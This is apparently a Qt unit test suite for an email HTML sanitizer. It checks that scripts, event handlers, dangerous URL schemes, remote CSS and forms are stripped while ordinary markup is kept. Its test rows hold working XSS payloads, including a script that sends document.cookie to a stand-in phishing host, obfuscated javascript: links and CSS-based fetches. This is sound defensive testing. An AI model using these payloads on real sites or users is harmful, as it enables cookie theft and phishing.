// HtmlSanitizer: what survives and what goes, case by case (no sandbox needed).
#include "models/conversations/HtmlSanitizer.h"

#include <QElapsedTimer>
#include <QTest>
#include <QtConcurrent/QtConcurrentMap>

using kac::models::HtmlSanitizer;

class TestHtmlSanitizer : public QObject
{
    Q_OBJECT
private slots:
    void removesDangerousMarkup_data();
    void removesDangerousMarkup();
    void keepsOrdinaryEmail();
    void linkTargetsShown();
    void remoteImagesReported();
    void styles_data();
    void styles();
    void schemes_data();
    void schemes();
    void survivesBrokenMarkup_data();
    void survivesBrokenMarkup();
    void parsedAsBrowsersDo_data();
    void parsedAsBrowsersDo();
    void deepNestingIsBounded();
    void sameAnswerOnEveryThread();
};

// Each row: input HTML, substrings that must not survive (case-insensitive), text that must.
void TestHtmlSanitizer::removesDangerousMarkup_data()
{
    QTest::addColumn<QString>("html");
    QTest::addColumn<QStringList>("forbidden");
    QTest::addColumn<QString>("kept");

    QTest::newRow("script") << "<p>Hi</p><script>document.location='https://phish.example.net/"
                               "?c='+document.cookie</script>"
                            << QStringList{"<script", "document.cookie", "phish"} << "Hi";
    QTest::newRow("script with markup inside") << "<p>A</p><script>if (a<b) document.write('<img "
                                                  "src=x onerror=alert(1)>')</script><p>B</p>"
                                               << QStringList{"onerror", "alert", "<img"} << "B";
    QTest::newRow("script upper case, unclosed")
        << "<p>A</p><SCRIPT type=text/javascript>alert(1)" << QStringList{"alert", "script"} << "A";
    QTest::newRow("onload") << "<body onload=\"alert(1)\"><p>Hello</p></body>"
                            << QStringList{"onload", "alert"} << "Hello";
    QTest::newRow("onerror on img")
        << "<img src=\"https://x.test/a.png\" onerror='fetch(\"https://evil.test\")'>"
        << QStringList{"onerror", "evil.test"} << "https://x.test/a.png";
    QTest::newRow("onmouseover unquoted") << "<a href=https://ok.test onmouseover=alert(1)>ok</a>"
                                          << QStringList{"onmouseover", "alert"} << "ok";
    QTest::newRow("javascript href") << "<a href=\"javascript:alert(document.cookie)\">Pay now</a>"
                                     << QStringList{"javascript", "alert"} << "Pay now";
    QTest::newRow("javascript href, entity encoded")
        << "<a href=\"jav&#x61;script&colon;alert(1)\">x</a>"
        << QStringList{"script", "alert", "href"} << "x";
    QTest::newRow("javascript href, tab inside") << "<a href=\"java\tscript:alert(1)\">x</a>"
                                                 << QStringList{"script", "alert", "href"} << "x";
    QTest::newRow("javascript href, leading spaces")
        << "<a href=\"  JavaScript:alert(1)\">x</a>" << QStringList{"script", "alert", "href"}
        << "x";
    QTest::newRow("vbscript href")
        << "<a href='vbscript:msgbox(1)'>x</a>" << QStringList{"vbscript", "msgbox"} << "x";
    QTest::newRow("data href")
        << "<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">x</a>"
        << QStringList{"data:", "base64"} << "x";
    QTest::newRow("iframe")
        << "<p>a</p><iframe src=\"https://evil.test/frame\">fallback</iframe><p>b</p>"
        << QStringList{"iframe", "evil.test", "fallback"} << "b";
    QTest::newRow("object and embed")
        << "<object data=\"https://evil.test/x.swf\"><param name=a value=b><embed "
           "src=\"https://evil.test/y.swf\"></object>ok"
        << QStringList{"object", "embed", "evil.test", "param"} << "ok";
    QTest::newRow("nested object") << "<object><object>inner</object>still inside</object>after"
                                   << QStringList{"inner", "still inside"} << "after";
    QTest::newRow("svg onload") << "<svg onload=alert(1)><circle r=1/></svg>ok"
                                << QStringList{"svg", "alert"} << "ok";
    QTest::newRow("style element, remote css url()")
        << "<style>body{background:url(https://evil.test/bg.png)} @import "
           "'https://evil.test/a.css';</style><p>ok</p>"
        << QStringList{"evil.test", "<style", "@import"} << "ok";
    QTest::newRow("link stylesheet")
        << "<link rel=stylesheet href=\"https://evil.test/a.css\"><p>ok</p>"
        << QStringList{"<link", "evil.test"} << "ok";
    QTest::newRow("inline style url()")
        << "<div style=\"color:red; background-image: url('https://evil.test/t.gif')\">ok</div>"
        << QStringList{"url(", "evil.test"} << "color:red";
    QTest::newRow("inline style expression")
        << "<div style=\"width: expression(alert(1))\">ok</div>"
        << QStringList{"expression", "alert"} << "ok";
    QTest::newRow("background attribute")
        << "<table background=\"https://evil.test/bg.jpg\"><tr><td>ok</td></tr></table>"
        << QStringList{"background", "evil.test"} << "ok";
    QTest::newRow("meta refresh")
        << "<meta http-equiv=refresh content=\"0;url=https://evil.test\"><p>ok</p>"
        << QStringList{"meta", "evil.test"} << "ok";
    QTest::newRow("base href")
        << "<base href=\"https://evil.test/\"><a href=\"https://ok.test/\">ok</a>"
        << QStringList{"<base", "evil.test"} << "ok";
    QTest::newRow("form controls") << "<form action=\"https://evil.test/steal\"><input name=p "
                                      "type=password><button>Go</button></form>ok"
                                   << QStringList{"<form", "<input", "evil.test", "action"} << "ok";
    QTest::newRow("comment, conditional") << "<!--[if mso]><script>alert(1)</script><![endif]-->ok"
                                          << QStringList{"alert", "<!--", "mso"} << "ok";
    QTest::newRow("img javascript src")
        << "<img src=\"javascript:alert(1)\">ok" << QStringList{"javascript", "alert"} << "ok";
    QTest::newRow("img unsafe src, nothing left to show")
        << "<img src=\"vbscript:msgbox(1)\" alt=\"logo\">ok" << QStringList{"<img", "vbscript"}
        << "ok";
    QTest::newRow("img file src") << "<img src=\"file:///etc/passwd\">ok"
                                  << QStringList{"file:", "passwd"} << "ok";
    QTest::newRow("unclosed head")
        << "<html><head><title>T</title><style>p{}</style><body><p>ok</p></body></html>"
        << QStringList{"<title", "<style", "<head"} << "<p>ok</p>";
    QTest::newRow("class and id dropped")
        << "<p class=x id=y>ok</p>" << QStringList{"class", "id="} << "<p>ok</p>";
}

void TestHtmlSanitizer::removesDangerousMarkup()
{
    QFETCH(QString, html);
    QFETCH(QStringList, forbidden);
    QFETCH(QString, kept);
    const HtmlSanitizer::Result result = HtmlSanitizer::sanitize(html);
    for (const QString &word : forbidden)
        QVERIFY2(!result.html.contains(word, Qt::CaseInsensitive),
                 qPrintable(QStringLiteral("'%1' survived in: %2").arg(word, result.html)));
    QVERIFY2(result.html.contains(kept), qPrintable(result.html));
    if (!html.startsWith(QLatin1String("<!--"))) // comments go silently
        QVERIFY(result.removedElements + result.removedAttributes > 0);
}

void TestHtmlSanitizer::keepsOrdinaryEmail()
{
    const QString html = QStringLiteral(
        "<html><body style=\"font-family:Arial\"><h1>Welcome, Siobhan!</h1><p>Your bill is "
        "<b>ready</b>.</p><table cellpadding=\"4\"><tr><td colspan=\"2\">Amount due</td><td>"
        "<b>$312.40</b></td></tr></table><ul><li>one</li></ul><br><hr></body></html>");
    const HtmlSanitizer::Result result = HtmlSanitizer::sanitize(html);
    QCOMPARE(result.removedElements, 0);
    QCOMPARE(result.removedAttributes, 0);
    for (const char *piece : {"<h1>Welcome, Siobhan!</h1>", "<b>ready</b>", "<td colspan=\"2\">",
                              "<table cellpadding=\"4\">", "style=\"font-family:Arial\"",
                              "<li>one</li>", "<br>", "<hr>"})
        QVERIFY2(result.html.contains(QLatin1String(piece)), piece);
}

void TestHtmlSanitizer::linkTargetsShown()
{
    const HtmlSanitizer::Result result = HtmlSanitizer::sanitize(QStringLiteral(
        "<a href=\"https://evil.example/login?x=1&amp;y=2\">https://www.redenergy.com.au/login</a>"
        " <a href=\"https://www.redenergy.com.au/\">https://www.redenergy.com.au/</a>"
        " <a href=\"mailto:help@redenergy.com.au\">help@redenergy.com.au</a>"));
    // The misleading link says where it really goes; honest ones are not repeated.
    QVERIFY2(
        result.html.contains(QLatin1String(
            "</a> <span style=\"color:#555555\">[https://evil.example/login?x=1&amp;y=2]</span>")),
        qPrintable(result.html));
    QCOMPARE(result.html.count(QLatin1Char('[')), 1);
    QCOMPARE(result.blockedLinks, 0);

    HtmlSanitizer::Options plain;
    plain.showLinkTargets = false;
    QVERIFY(!HtmlSanitizer::sanitize(QStringLiteral("<a href=\"https://a.test/\">x</a>"), plain)
                 .html.contains('['));
}

void TestHtmlSanitizer::remoteImagesReported()
{
    const HtmlSanitizer::Result result = HtmlSanitizer::sanitize(QStringLiteral(
        "<img src=\"https://assets.test/logo.png\"><img src='http://t.test/open.gif?m=1'>"
        "<img src=\"cid:part1\"><img src=\"data:image/png;base64,iVBORw0KGgo=\">"));
    QCOMPARE(result.remoteResources, (QStringList{"https://assets.test/logo.png",
                                                  "http://t.test/open.gif?m=1", "cid:part1"}));
    QVERIFY(result.html.contains(QLatin1String("data:image/png;base64,iVBORw0KGgo=")));
}

void TestHtmlSanitizer::styles_data()
{
    QTest::addColumn<QString>("css");
    QTest::addColumn<QString>("expected");
    QTest::addColumn<int>("removed");
    QTest::newRow("plain") << "color: red; font-weight:bold"
                           << "color: red; font-weight:bold" << 0;
    QTest::newRow("url") << "color:red;background:URL(https://x.test/a.png)"
                         << "color:red" << 1;
    QTest::newRow("url with spaces") << "background: url ( 'https://x.test' )"
                                     << "" << 1;
    QTest::newRow("escaped url") << "background: u\\72l(https://x.test)"
                                 << "" << 1;
    QTest::newRow("import") << "@import 'https://x.test/a.css'"
                            << "" << 1;
    QTest::newRow("behavior") << "behavior: url(x.htc); color: blue"
                              << "color: blue" << 1;
    QTest::newRow("moz-binding") << "-moz-binding: url(https://x.test/b.xml#x)"
                                 << "" << 1;
    QTest::newRow("comment trick") << "background:u/**/rl(https://x.test)"
                                   << "" << 1;
}

void TestHtmlSanitizer::styles()
{
    QFETCH(QString, css);
    QFETCH(QString, expected);
    QFETCH(int, removed);
    int count = 0;
    QCOMPARE(HtmlSanitizer::sanitizeStyle(css, &count), expected);
    QCOMPARE(count, removed);
}

void TestHtmlSanitizer::schemes_data()
{
    QTest::addColumn<QString>("url");
    QTest::addColumn<bool>("safe");
    QTest::newRow("https") << "https://www.redenergy.com.au/" << true;
    QTest::newRow("http") << "http://example.com" << true;
    QTest::newRow("mailto") << "mailto:help@redenergy.com.au" << true;
    QTest::newRow("tel") << "tel:131806" << true;
    QTest::newRow("javascript") << "javascript:alert(1)" << false;
    QTest::newRow("javascript mixed case, newline") << "JaVa\nScRiPt:alert(1)" << false;
    QTest::newRow("javascript numeric entities")
        << "&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)" << false;
    QTest::newRow("data") << "data:text/html,<script>alert(1)</script>" << false;
    QTest::newRow("file") << "file:///etc/passwd" << false;
    QTest::newRow("relative") << "/account/login" << false;
    QTest::newRow("smb") << "\\\\attacker\\share" << false;
}

void TestHtmlSanitizer::schemes()
{
    QFETCH(QString, url);
    QFETCH(bool, safe);
    QCOMPARE(HtmlSanitizer::isSafeLinkUrl(url), safe);
}

void TestHtmlSanitizer::survivesBrokenMarkup_data()
{
    QTest::addColumn<QString>("html");
    QTest::newRow("empty") << "";
    QTest::newRow("lone angle") << "a < b and c > d";
    QTest::newRow("unterminated tag") << "<p class=\"x";
    QTest::newRow("unterminated comment") << "<!-- never closed <script>alert(1)</script>";
    QTest::newRow("attribute without value") << "<td nowrap>x</td>";
    QTest::newRow("stray slash") << "<br/><img / src=\"https://a.test/x.png\"/>";
    QTest::newRow("unclosed anchor") << "<a href=\"https://a.test/\">text";
}

void TestHtmlSanitizer::survivesBrokenMarkup()
{
    QFETCH(QString, html);
    const HtmlSanitizer::Result result = HtmlSanitizer::sanitize(html);
    QVERIFY(!result.html.contains(QLatin1String("alert"), Qt::CaseInsensitive));
    QVERIFY(!result.html.contains(QLatin1String("<script"), Qt::CaseInsensitive));
    if (html.contains(QLatin1String("a < b")))
        QCOMPARE(result.html, QStringLiteral("a &lt; b and c > d"));
    if (html.contains(QLatin1String("nowrap")))
        QCOMPARE(result.html, QStringLiteral("<td nowrap=\"\">x</td>"));
    if (html.contains(QLatin1String("unclosed anchor")) || html.startsWith(QLatin1String("<a ")))
        QVERIFY(result.html.contains(QLatin1String("</a>")));
}

// The tree is the one the HTML5 algorithm builds (gumbo), so the output is what a browser
// would have made of the email: balanced, with raw-text and comment rules as browsers apply them.
void TestHtmlSanitizer::parsedAsBrowsersDo_data()
{
    QTest::addColumn<QString>("html");
    QTest::addColumn<QString>("expected");
    QTest::newRow("mis-nested formatting") << "<b><i>x</b>y</i>"
                                           << "<b><i>x</i></b><i>y</i>";
    QTest::newRow("implied paragraph end") << "<p>one<p>two"
                                           << "<p>one</p><p>two</p>";
    // "<!-->" is a whole (empty) comment in HTML5: the bold text after it is content.
    QTest::newRow("abrupt comment") << "<!--><b>shown</b>-->"
                                    << "<b>shown</b>-->";
    // A table part on its own is parsed in its table context, keeping its attributes.
    QTest::newRow("forwarded cell") << "<th colspan=2>Due</th>"
                                    << "<th colspan=\"2\">Due</th>";
    // "</textarea>" inside an attribute does not end a textarea: all of it goes.
    QTest::newRow("raw text end inside attribute")
        << "<textarea><p title=\"</textarea><img src=https://t.test/p.gif>\">x</textarea>ok"
        << "<img src=\"https://t.test/p.gif\">\">xok";
}

void TestHtmlSanitizer::parsedAsBrowsersDo()
{
    QFETCH(QString, html);
    QFETCH(QString, expected);
    QCOMPARE(HtmlSanitizer::sanitize(html).html, expected);
}

// Nesting beyond what any email needs costs gumbo depth x tags; it is bounded before parsing.
void TestHtmlSanitizer::deepNestingIsBounded()
{
    QString html;
    for (int i = 0; i < 100000; ++i)
        html += QLatin1String("<div>");
    html += QLatin1String("deep text");
    QElapsedTimer timer;
    timer.start();
    const HtmlSanitizer::Result result = HtmlSanitizer::sanitize(html);
    QVERIFY2(timer.elapsed() < 5000, qPrintable(QString::number(timer.elapsed())));
    QVERIFY(result.html.contains(QLatin1String("deep text")));
    QVERIFY(result.html.count(QLatin1String("<div>")) <= 4000);
    QCOMPARE(result.html.count(QLatin1String("<div>")), result.html.count(QLatin1String("</div>")));
}

// Emails are sanitised on worker threads: gumbo keeps no shared state, so parallel calls give
// exactly the single-threaded answer.
void TestHtmlSanitizer::sameAnswerOnEveryThread()
{
    QStringList inputs;
    for (int i = 0; i < 64; ++i)
        inputs << QStringLiteral("<p>Bill %1</p><a href=\"https://r.test/%1\">pay</a><img "
                                 "src=\"https://t.test/%1.gif\"><script>x()</script>")
                      .arg(i);
    QList<QString> expected;
    for (const QString &html : inputs)
        expected << HtmlSanitizer::sanitize(html).html;
    const QList<QString> parallel = QtConcurrent::blockingMapped(
        inputs, [](const QString &html) { return HtmlSanitizer::sanitize(html).html; });
    QCOMPARE(parallel, expected);
}

QTEST_GUILESS_MAIN(TestHtmlSanitizer)
#include "tst_htmlsanitizer.moc"
